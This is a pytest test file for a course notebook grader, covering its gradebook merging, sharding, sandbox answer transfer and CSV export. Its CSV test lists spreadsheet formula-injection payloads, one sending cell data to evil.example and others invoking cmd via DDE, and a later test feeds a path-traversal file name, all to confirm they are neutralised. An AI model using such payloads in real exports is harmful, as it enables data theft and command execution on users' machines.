"""The grader's pieces that need no kernel: discovery, shards, the gradebook's merge and "latest", CSV safety, cell
names, the answers' way out of the sandbox, the fallback note and the install hint. All fast."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from dlcourse import cli
from dlcourse.grading import collect, runner, sandbox
from dlcourse.grading.gradebook import Gradebook, safe_cell
from dlcourse.grading.runner import ExerciseResult, SubmissionResult

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tools"))
import nbconventions  # noqa: E402


def result(student, sha, score=1.0, graded_at="2026-11-01T10:00:00+00:00", submitted_at="2026-10-31T09:00:00+00:00",
           status="ok", assignment="01"):
    r = SubmissionResult(student=student, assignment=assignment, sha256=sha, path=f"{student}.ipynb", status=status,
                         isolation="bwrap", graded_at=graded_at, submitted_at=submitted_at)
    r.exercises = [ExerciseResult("01.1", "t", score, 1.0, score == 1.0, "" if score == 1.0 else "wrong")]
    return r


def dump(db: Path) -> list:
    con = sqlite3.connect(db)
    rows = [con.execute("SELECT * FROM submissions ORDER BY student, assignment, sha256").fetchall(),
            con.execute("SELECT * FROM results ORDER BY student, assignment, sha256, exercise").fetchall()]
    con.close()
    return rows


# ---- CSV ----------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_neutralises_formulas_as_owasp_advises(tmp_path):
    db = tmp_path / "gb.sqlite"
    with Gradebook(db) as book:
        for i, name in enumerate(FORMULAS + ["alice", "-1"]):
            book.save(result(name, f"{i:064x}"))
        book.export_csv(tmp_path / "g.csv")
    raw = (tmp_path / "g.csv").read_text()
    with open(tmp_path / "g.csv", newline="") as f:
        students = [row["student"] for row in csv.DictReader(f)]
    assert sorted(students) == sorted(["'" + n for n in FORMULAS] + ["alice", "-1"])
    # no field of any line starts like a formula
    for row in csv.reader(raw.splitlines()):
        for field in row:
            assert not field.startswith(("=", "+", "@", "\t", "\r")), field
            assert not field.startswith("-") or field == "-1", field
    assert safe_cell(-1.5) == -1.5 and safe_cell("-1.5") == "-1.5" and safe_cell("-inf") == "'-inf"


# ---- discovery and shards ------------------------------------------------------------------------------------

def nb_text(tag: str = "") -> str:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(f"x = 1  # {tag}")]
    return nbformat.writes(nb)


def test_folders_are_searched_recursively_hidden_ones_skipped(tmp_path):
    nested = tmp_path / "nested"
    for rel in ["alice/01_tensors.ipynb", "bob/01_tensors.ipynb", "carol.ipynb", "section/dave/work.ipynb",
                ".ipynb_checkpoints/carol-checkpoint.ipynb", "alice/.ipynb_checkpoints/x-checkpoint.ipynb",
                "__MACOSX/alice/._01_tensors.ipynb", "bob/notes.txt"]:
        (nested / rel).parent.mkdir(parents=True, exist_ok=True)
        (nested / rel).write_text(nb_text(rel))
    subs = collect.collect([str(nested)])
    assert [s.rel for s in subs] == ["carol.ipynb", "alice/01_tensors.ipynb", "bob/01_tensors.ipynb",
                                     "section/dave/work.ipynb"]
    assert [s.student for s in subs] == ["carol", "alice/01_tensors", "bob/01_tensors", "section/dave/work"]
    # a file given by itself is named by its file name; two with one name are refused, with both paths
    assert collect.collect([str(nested / "carol.ipynb")])[0].student == "carol"
    assert len(collect.collect([str(nested), str(nested / "bob")])) == 4  # named twice: graded once
    (tmp_path / "carol.ipynb").write_text(nb_text())
    with pytest.raises(collect.CollectError, match="same name"):
        collect.collect([str(nested), str(tmp_path / "carol.ipynb")])


def test_a_folder_without_notebooks_is_an_error_with_exit_2(tmp_path, monkeypatch, capsys):
    (tmp_path / "empty" / "sub").mkdir(parents=True)
    (tmp_path / "empty" / "sub" / "readme.txt").write_text("no notebooks here")
    with pytest.raises(collect.CollectError, match="no notebooks"):
        collect.collect([str(tmp_path / "empty")])
    monkeypatch.chdir(tmp_path)
    assert cli.main(["grade", str(tmp_path / "empty")]) == 2
    assert "no notebooks (*.ipynb) in this folder or its subfolders" in capsys.readouterr().err
    assert not (tmp_path / "gradebook.sqlite").exists()


def test_shards_are_stable_disjoint_and_cover_everything():
    subs = [collect.Submission(Path(f"s{i}.ipynb"), f"student{i:03d}/01_tensors.ipynb") for i in range(300)]
    shards = [collect.in_shard(subs, k, 3) for k in range(3)]
    assert sorted(s.rel for part in shards for s in part) == sorted(s.rel for s in subs)
    assert all(70 < len(part) < 130 for part in shards), [len(p) for p in shards]
    # pinned: a different hash would move submissions between shards across versions of the grader
    assert [collect.shard_of(f"student{i:03d}/01_tensors.ipynb", 3) for i in range(8)] == PINNED_SHARDS
    assert collect.parse_shard("2/3") == (2, 3)
    for bad in ("3/3", "1/0", "-1/3", "a/b", "1"):
        with pytest.raises(ValueError):
            collect.parse_shard(bad)


PINNED_SHARDS = [2, 1, 1, 2, 2, 2, 2, 1]  # sha256 of the path, first 8 bytes big-endian, modulo 3


# ---- the gradebook: latest, merge ------------------------------------------------------------------------------

def test_latest_is_the_newest_submission_not_the_newest_grading(tmp_path):
    with Gradebook(tmp_path / "gb.sqlite") as book:
        # bob's new file was graded first, his old one (re-)graded later: the new file still counts
        book.save(result("bob", "b" * 64, 1.0, graded_at="2026-11-01T10:00:00+00:00",
                         submitted_at="2026-11-01T09:00:00.000000+00:00"))
        book.save(result("bob", "a" * 64, 0.0, graded_at="2026-11-02T10:00:00+00:00",
                         submitted_at="2026-10-01T09:00:00.000000+00:00"))
        rows = book.latest()
    assert [(r["student"], r["sha256"][0], r["score"]) for r in rows] == [("bob", "b", 1.0)]


def test_merge_is_idempotent_order_free_and_keeps_the_latest(tmp_path):
    a, b = tmp_path / "a.sqlite", tmp_path / "b.sqlite"
    with Gradebook(a) as book:
        book.save(result("ann", "1" * 64, 0.0, graded_at="2026-11-01T10:00:00+00:00"))   # graded again in b
        book.save(result("ben", "2" * 64, 1.0))                                          # only in a
        book.save(result("cat", "3" * 64, 1.0, graded_at="2026-11-03T10:00:00+00:00"))  # b's is an error
        book.save(result("dan", "4" * 64, 0.0, submitted_at="2026-10-01T00:00:00+00:00"))  # resubmitted in b
    with Gradebook(b) as book:
        book.save(result("ann", "1" * 64, 1.0, graded_at="2026-11-02T10:00:00+00:00"))
        book.save(result("cat", "3" * 64, 0.0, graded_at="2026-11-04T10:00:00+00:00", status="grader-error"))
        book.save(result("dan", "5" * 64, 1.0, submitted_at="2026-10-02T00:00:00+00:00"))
    ab, ba = tmp_path / "ab.sqlite", tmp_path / "ba.sqlite"
    with Gradebook(ab) as book:
        assert book.merge_from(a) == {"added": 4, "replaced": 0, "kept": 0}
        assert book.merge_from(b) == {"added": 1, "replaced": 1, "kept": 1}
        assert book.merge_from(b) == {"added": 0, "replaced": 0, "kept": 3}  # again: nothing changes
        assert book.merge_from(a) == {"added": 0, "replaced": 0, "kept": 4}
        latest = {r["student"]: (r["sha256"][0], r["score"], r["status"]) for r in book.latest()}
    with Gradebook(ba) as book:
        book.merge_from(b)
        book.merge_from(a)
    assert dump(ab) == dump(ba)
    # no duplicates: one row per (student, assignment, file), one result row per exercise
    subs, res = dump(ab)
    assert len(subs) == 5 and len(res) == 5
    assert latest == {"ann": ("1", 1.0, "ok"),       # the later grading of the same file
                      "ben": ("2", 1.0, "ok"),
                      "cat": ("3", 1.0, "ok"),       # a grader error never replaces a grade
                      "dan": ("5", 1.0, "ok")}       # the resubmission (newer file) counts


def test_merge_cli_and_old_gradebooks_without_submitted_at(tmp_path, capsys):
    old = tmp_path / "old.sqlite"
    con = sqlite3.connect(old)  # the schema before submitted_at existed
    con.executescript("""
        CREATE TABLE submissions (student TEXT NOT NULL, assignment TEXT NOT NULL, sha256 TEXT NOT NULL, path TEXT,
            status TEXT NOT NULL, isolation TEXT, score REAL NOT NULL, max_score REAL NOT NULL, wall_s REAL,
            notes TEXT, graded_at TEXT NOT NULL, PRIMARY KEY (student, assignment, sha256));
        CREATE TABLE results (student TEXT NOT NULL, assignment TEXT NOT NULL, exercise TEXT NOT NULL,
            sha256 TEXT NOT NULL, title TEXT, points REAL NOT NULL, max_points REAL NOT NULL, passed INTEGER NOT NULL,
            reason TEXT, PRIMARY KEY (student, assignment, exercise, sha256));
        INSERT INTO submissions VALUES ('eve', '01', 'e', 'eve.ipynb', 'ok', 'bwrap', 1, 1, 3.0, '[]',
                                        '2026-11-01T00:00:00+00:00');
        INSERT INTO results VALUES ('eve', '01', '01.1', 'e', 't', 1, 1, 1, '');""")
    con.commit()
    con.close()
    assert cli.main(["grade", "merge", str(old), "--db", str(tmp_path / "m.sqlite"), "--csv",
                     str(tmp_path / "m.csv")]) == 0
    out = capsys.readouterr().out
    assert "1 added, 0 replaced" in out and "1 submission(s) in all" in out
    assert (tmp_path / "m.csv").read_text().splitlines()[1].startswith("eve,01,1,")
    assert cli.main(["grade", "merge", str(tmp_path / "nope.sqlite")]) == 2
    assert "no such gradebook" in capsys.readouterr().err


# ---- re-run messages (no kernel: everything is in the gradebook already) ---------------------------------------

def test_rerun_says_what_it_skipped_and_why(tmp_path, capsys):
    subs = tmp_path / "subs"
    (subs / "bob").mkdir(parents=True)
    (subs / "alice.ipynb").write_text(nb_text("a"))
    (subs / "bob" / "01.ipynb").write_text(nb_text("b"))
    db = tmp_path / "gb.sqlite"
    with Gradebook(db) as book:
        for s in collect.collect([str(subs)]):
            book.save(result(s.student, runner.sha256(s.path.read_bytes())))
    assert cli.main(["grade", str(subs), "--assignment", "01", "--db", str(db), "--feedback", ""]) == 0
    out = capsys.readouterr().out
    assert "found 2 submission(s)" in out
    assert "not run again: 2 already in" in out and "same file content (SHA-256)" in out and "--regrade" in out
    assert "alice, bob/01" in out
    assert "nothing to grade: all 2 submission(s) are already graded" in out
    assert "grading " not in out


# ---- how feedback names cells ------------------------------------------------------------------------------------

def test_feedback_names_cells_as_jupyter_numbers_them_with_the_exercise():
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# Exercises"),
                nbformat.v4.new_code_cell("import torch"),
                nbformat.v4.new_markdown_cell("## Exercise 01.1 · a matrix (1 point)"),
                nbformat.v4.new_code_cell("M = make()"),
                nbformat.v4.new_code_cell(""),                         # empty: Jupyter gives it no number
                nbformat.v4.new_code_cell('dl.check("01.1", M)'),
                nbformat.v4.new_markdown_cell("## Summary"),
                nbformat.v4.new_code_cell("print('done')")]
    labels = runner.cell_labels(nb)
    assert labels == {1: "cell [1]", 3: "cell [2] (in exercise 01.1)", 5: "cell [3] (exercise 01.1)", 7: "cell [4]"}
    per_cell = {1: {"event": "ok"}, 3: {"event": "error", "ename": "NameError", "evalue": "name 'make' is not defined"}}
    facts = {"killed": False}
    limits = sandbox.Limits()
    why = runner.why_unanswered("01.1", 5, {**per_cell, 5: {"event": "error", "ename": "NameError",
                                                            "evalue": "name 'M' is not defined"}},
                                None, facts, limits, labels)
    assert why == "no answer: cell [3] (exercise 01.1) raised NameError: name 'M' is not defined"
    died = runner.why_unanswered("01.1", 5, per_cell, {"event": "died", "cell": 3}, facts, limits, labels)
    assert "the kernel died in cell [2] (in exercise 01.1)" in died and "so cell [3] (exercise 01.1) never ran" in died
    full = runner.why_unanswered("01.1", 5, {1: {"event": "ok"}, 3: {"event": "start"}}, None,
                                 {"write_limit": {"folder": "box", "limit_mb": 256}}, limits, labels)
    assert full == ("no answer: the run was stopped when it wrote past its write limit (256 MB or 100,000 files in "
                    "its working and temporary folders, --disk) in cell [2] (in exercise 01.1), so cell [3] "
                    "(exercise 01.1) never ran")


# ---- the answers' way out of the bubblewrap sandbox ----------------------------------------------------------------

def receive(tmp_path, frames: bytes):
    folder = tmp_path / "answers"
    folder.mkdir(parents=True)
    r, w = os.pipe()
    rec = runner._AnswerReceiver(r, folder)
    rec.start()

    def send():
        with os.fdopen(w, "wb") as pipe:
            pipe.write(frames)

    writer = threading.Thread(target=send)
    writer.start()
    writer.join(30)
    rec.join(30)
    return folder, rec


def frame(name, data=b"", kind="file"):
    head = {"name": name, "kind": kind}
    if kind == "file":
        head["size"] = len(data)
    return json.dumps(head).encode() + b"\n" + data


def test_answers_coming_out_of_the_sandbox_are_capped_and_named_safely(tmp_path, monkeypatch):
    monkeypatch.setattr(runner.record, "MAX_ANSWER_BYTES", 1000)
    frames = (frame("01.1.json", b'{"kind": "json", "value": 1}') + frame("01.4.json", kind="symlink")
              + frame("big.pt", b"x" * 5000) + frame("../escape.json", b"{}") + frame("after.json", b"{}"))
    folder, rec = receive(tmp_path, frames)
    assert sorted(os.listdir(folder)) == ["01.1.json", "01.4.json", "big.pt"]
    assert (folder / "01.1.json").read_bytes() == b'{"kind": "json", "value": 1}'
    assert (folder / "01.4.json").is_symlink() and not (folder / "01.4.json").exists()
    assert (folder / "big.pt").stat().st_size == 1001      # one byte past the cap: load_answer says "larger than"
    assert not (tmp_path / "escape.json").exists()
    assert "garbled" in rec.problem
    folder, rec = receive(tmp_path / "x", b"not json at all\n" + b"y" * 100_000)
    assert os.listdir(folder) == [] and "garbled" in rec.problem


# ---- the fallback note quotes bubblewrap; the install hint works -----------------------------------------------

def fake_bwrap(tmp_path, monkeypatch, message: str, version: str = "0.8.0"):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "bwrap").write_text("#!/bin/sh\n"
                                   f"if [ \"$1\" = --version ]; then echo 'bubblewrap {version}'; exit 0; fi\n"
                                   f"echo '{message}' >&2\nexit 1\n")
    (bin_dir / "bwrap").chmod(0o755)
    (bin_dir / "unshare").write_text("#!/bin/sh\necho 'unshare: unshare failed: Operation not permitted' >&2\nexit 1\n")
    (bin_dir / "unshare").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    return sandbox.detect.__wrapped__("auto")


def test_fallback_note_quotes_bubblewraps_own_error(tmp_path, monkeypatch):
    name, note = fake_bwrap(tmp_path, monkeypatch, "bwrap: execvp /tmp/venv/bin/python: No such file or directory")
    assert name == "none"
    bwrap_part = note.split("; ")[0]
    assert "bwrap: execvp /tmp/venv/bin/python: No such file or directory" in bwrap_part
    assert "namespace" not in bwrap_part  # not blamed on user namespaces
    assert "unshare failed: Operation not permitted" in note and "user namespaces look disabled" in note
    name, note = fake_bwrap(tmp_path, monkeypatch, "bwrap: setting up uid map: Permission denied")
    assert "setting up uid map: Permission denied" in note and "user namespaces look disabled" in note.split("; ")[0]
    name, note = fake_bwrap(tmp_path, monkeypatch, "never reached", version="0.6.2")
    assert "bubblewrap 0.6.2 is too old" in note and "0.8" in note


def test_install_hint_is_the_documented_command_from_the_repository_url(monkeypatch, capsys):
    assert cli.REPOSITORY_URL == nbconventions.repository_url()
    assert cli.GRADE_INSTALL == f'pip install "dlcourse[grade] @ git+{nbconventions.repository_url()}"'
    monkeypatch.setitem(sys.modules, "nbclient", None)  # as if it were not installed
    assert cli.main(["grade", "anything"]) == 2
    err = capsys.readouterr().err
    assert cli.GRADE_INSTALL in err and 'pip install ".[grade]"' in err
    assert "pip install 'dlcourse[grade]'" not in err
    for doc in ("docs/grading.md", "README.md"):
        assert cli.GRADE_INSTALL in (ROOT / doc).read_text(), doc


def test_memory_must_hold_the_write_limit():
    assert sandbox.Limits(memory_mb=4096, disk_mb=512).problem() is None
    assert sandbox.Limits(memory_mb=4096, disk_mb=512).heap_mb == 4096 - 512 - sandbox.SHM_MB
    assert "leaves the kernel" in sandbox.Limits(memory_mb=1024, disk_mb=512).problem()
